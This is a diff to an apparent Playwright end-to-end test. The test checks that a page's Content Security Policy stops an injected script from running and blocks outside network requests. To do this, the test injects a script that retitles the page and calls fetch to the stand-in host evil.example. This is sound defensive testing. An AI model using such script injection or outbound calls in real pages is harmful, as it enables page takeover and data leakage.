@@ -33,15 +33,22 @@ for (const market of [belgium, luxembourg]) {
   }
 }
 
-test('A script put into the page does not run', async ({ page }) => {
-  const say = wordsOf('en');
-  await screens[0]?.show(page, belgium, say);
-  const refused = page.waitForEvent('console', message => /Content Security Policy/.test(message.text()));
+test('A script put into the page does not run, and nothing can be sent elsewhere', async ({ page }) => {
+  await screens[0]?.show(page, belgium, wordsOf('en'));
   await page.evaluate(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      performance.mark(effectiveDirective);
+    });
     const script = document.createElement('script');
-    script.textContent = 'document.title = "taken over"';
-    document.head.append(script);
+    try {
+      script.textContent = 'document.title = "taken over"';
+    } catch {
+      // Text alone is no script here: the policy asks for trusted types.
+    }
+    document.body.append(script);
+    void fetch('https://evil.example/').catch(() => undefined);
   });
-  await refused;
+  const marks = () => page.evaluate(() => performance.getEntriesByType('mark').map(({ name }) => name));
+  await expect.poll(marks).toEqual(expect.arrayContaining(['require-trusted-types-for', 'connect-src']));
   await expect(page).not.toHaveTitle('taken over');
 });
